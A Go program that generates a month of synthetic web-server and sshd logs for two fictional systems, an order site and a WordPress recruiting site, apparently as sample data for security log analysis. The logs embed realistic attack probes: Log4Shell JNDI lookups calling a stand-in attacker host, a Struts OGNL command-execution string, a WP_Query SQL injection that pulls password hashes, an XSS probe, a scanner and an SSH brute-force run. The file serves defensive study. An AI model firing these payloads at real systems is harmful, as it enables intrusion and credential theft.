// Command samplelogs writes the sample snapshot's month of logs for two
// internet-facing systems, deterministically:
//
//	go run ./generator/cmd/samplelogs --data data
//
// With --month an earlier month is written instead (into --data, which is
// then a scratch folder for samplehistory --logs): the same traffic with
// fewer attacks the further back it is — none of the Struts and few of the
// Log4Shell and WP_Query probes two months back — so that the sample
// history shows attacks growing month by month.
//
// web-shop (the order site, Apache, gzip) sees Log4Shell probes aimed at
// its unpatched log4j-core, a Struts OGNL probe and a scanner, and its
// sshd "secure" log a burst of failed logins and a root login at night;
// web-recruit (WordPress) sees SQL injection aimed at WP_Query
// (CVE-2022-21661) and cross-site scripting probes on its entry form.
// Source addresses are from the documentation ranges (RFC 5737).
package main

import (
	"bytes"
	"compress/gzip"
	"flag"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"time"
)

const chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36"

var agents = []string{chrome,
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
	"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"}

var jst = time.FixedZone("JST", 9*3600)

type line struct {
	t       time.Time
	ip, req string
	status  int
	size    int
	ref, ua string
}

func (l line) String() string {
	ref := l.ref
	if ref == "" {
		ref = "-"
	}
	return fmt.Sprintf("%s - - [%s] \"%s HTTP/1.1\" %d %d \"%s\" \"%s\"\n", l.ip, l.t.Format("02/Jan/2006:15:04:05 -0700"), l.req, l.status, l.size, ref, l.ua)
}

func main() {
	data := flag.String("data", "data", "snapshot folder")
	month := flag.String("month", "2026-11", "month of the logs (YYYY-MM); earlier months carry fewer attacks")
	flag.Parse()
	start, err := time.ParseInLocation("2006-01", *month, jst)
	if err != nil || start.After(time.Date(2026, 11, 1, 0, 0, 0, 0, jst)) {
		fmt.Fprintln(os.Stderr, "samplelogs: --month must be YYYY-MM, 2026-11 or earlier")
		os.Exit(2)
	}
	// level 2 is the sample month; each month back drops some attacks
	level := 2 - (2026-start.Year())*12 - int(11-start.Month())
	rng := rand.New(rand.NewPCG(20261130, 1))
	at := func(day, hour, min, sec int) time.Time {
		return start.AddDate(0, 0, day-1).Add(time.Duration(hour*3600+min*60+sec) * time.Second)
	}

	// web-shop: the order site
	shopPages := []struct {
		path string
		size int
	}{{"/", 8412}, {"/order/list.action", 15320}, {"/order/detail.action?id=%d", 6210}, {"/catalog/search.action?q=%%E8%%BB%%B8%%E5%%8F%%97%%E3%%81%%91&page=%d", 12044},
		{"/static/css/app.css", 20480}, {"/static/js/app.js", 96512}, {"/login.action", 4120}}
	var shop []line
	for day := 1; day <= 30; day++ {
		for i := 0; i < 120; i++ {
			p := shopPages[rng.IntN(len(shopPages))]
			path := p.path
			if bytes.Contains([]byte(path), []byte("%d")) {
				path = fmt.Sprintf(path, 1000+rng.IntN(900))
			}
			shop = append(shop, line{at(day, 8+rng.IntN(11), rng.IntN(60), rng.IntN(60)), fmt.Sprintf("198.51.100.%d", 10+rng.IntN(200)),
				"GET " + path, 200, p.size + rng.IntN(64), "", agents[rng.IntN(len(agents))]})
		}
	}
	for _, d := range [][]int{nil, {11, 25}, {4, 11, 11, 18, 25, 29}}[max(level, 0)] {
		shop = append(shop, line{at(d, 2, 14, 7), "203.0.113.77", "GET /", 200, 8412, "", "${jndi:ldap://c2.attacker.example:1389/Basic/Command/Base64/d2dldCBodHRw}"})
		shop = append(shop, line{at(d, 2, 14, 9), "203.0.113.77", "GET /order/list.action?x=${jndi:ldap://c2.attacker.example/a}", 200, 15320, "", chrome})
	}
	if level >= 2 {
		shop = append(shop, line{at(21, 3, 40, 0), "192.0.2.200", "GET /order/%24%7B%28%23_memberAccess%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS%29.%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%29%7D/list.action", 404, 1024, "", chrome})
	}
	for i := 0; i < 5; i++ {
		shop = append(shop, line{at(14, 23, 1, i), "192.0.2.150", "GET /admin/config.php.bak", 404, 320, "", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:00000" + fmt.Sprint(i) + ")"})
	}
	write(*data, "logs/web-shop/access_log-"+start.Format("200601")+".gz", sortLines(shop), true)

	var secure bytes.Buffer
	for i := 0; i < 40; i++ {
		t := at(9, 1, 20, 0).Add(time.Duration(i*7) * time.Second)
		user := []string{"admin", "oracle", "test", "postgres"}[i%4]
		fmt.Fprintf(&secure, "%s web-shop sshd[%d]: Failed password for invalid user %s from 203.0.113.91 port %d ssh2\n", t.Format("Jan _2 15:04:05"), 21000+i, user, 40000+i)
	}
	for day := 2; day <= 30; day += 7 {
		fmt.Fprintf(&secure, "%s web-shop sshd[%d]: Accepted publickey for deploy from 10.20.1.15 port 51515 ssh2\n", at(day, 10, 5, 0).Format("Jan _2 15:04:05"), 30000+day)
	}
	fmt.Fprintf(&secure, "%s web-shop sshd[31999]: Accepted password for root from 10.20.1.99 port 60001 ssh2\n", at(22, 23, 48, 12).Format("Jan _2 15:04:05"))
	write(*data, "logs/web-shop/secure", secure.Bytes(), false)

	// web-recruit: WordPress
	recPages := []struct {
		path string
		size int
	}{{"/", 24310}, {"/recruit/", 18220}, {"/recruit/new-graduates/", 20114}, {"/entry/form", 9120}, {"/wp-content/themes/minato/style.css", 30200},
		{"/wp-includes/js/jquery/jquery.min.js", 87553}, {"/?s=%%E8%%A8%%AD%%E8%%A8%%88&paged=%d", 15400}}
	var rec []line
	for day := 1; day <= 30; day++ {
		for i := 0; i < 90; i++ {
			p := recPages[rng.IntN(len(recPages))]
			path := p.path
			if bytes.Contains([]byte(path), []byte("%d")) {
				path = fmt.Sprintf(path, 1+rng.IntN(5))
			}
			rec = append(rec, line{at(day, 7+rng.IntN(15), rng.IntN(60), rng.IntN(60)), fmt.Sprintf("198.51.100.%d", 10+rng.IntN(200)),
				"GET " + path, 200, p.size + rng.IntN(64), "https://www.google.co.jp/", agents[rng.IntN(len(agents))]})
		}
	}
	// CVE-2022-21661 (WP_Query) probes and one answer much larger than usual
	for i, d := range [][]int{nil, {13, 27}, {6, 6, 13, 20, 27}}[max(level, 0)] {
		size := 212
		if i == 3 {
			size = 48211
		}
		rec = append(rec, line{at(d, 4, 2, i), "203.0.113.140",
			"GET /wp-admin/admin-ajax.php?action=ecsload&query_vars%5Btax_query%5D%5B1%5D%5Bterms%5D%5B1%5D=1%29%20and%20updatexml%281%2Cconcat%280x7e%2C%28select%20user_pass%20from%20wp_users%20limit%201%29%29%2C1%29--%20",
			200, size, "", chrome})
	}
	for i := 0; i < []int{1, 1, 3}[max(level, 0)]; i++ {
		rec = append(rec, line{at(16+i, 22, 30, 0), "192.0.2.31", "GET /entry/confirm?name=%3Cscript%3Ealert(document.domain)%3C/script%3E", 403, 512, "", chrome})
	}
	write(*data, "logs/web-recruit/access.log", sortLines(rec), false)
}

func sortLines(ls []line) []byte {
	for i := 1; i < len(ls); i++ {
		for j := i; j > 0 && ls[j].t.Before(ls[j-1].t); j-- {
			ls[j], ls[j-1] = ls[j-1], ls[j]
		}
	}
	var b bytes.Buffer
	for _, l := range ls {
		b.WriteString(l.String())
	}
	return b.Bytes()
}

func write(dir, rel string, data []byte, gz bool) {
	p := filepath.Join(dir, filepath.FromSlash(rel))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		panic(err)
	}
	if gz {
		var b bytes.Buffer
		zw, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
		zw.ModTime = time.Time{}
		zw.Write(data)
		zw.Close()
		data = b.Bytes()
	}
	if err := os.WriteFile(p, data, 0o644); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}
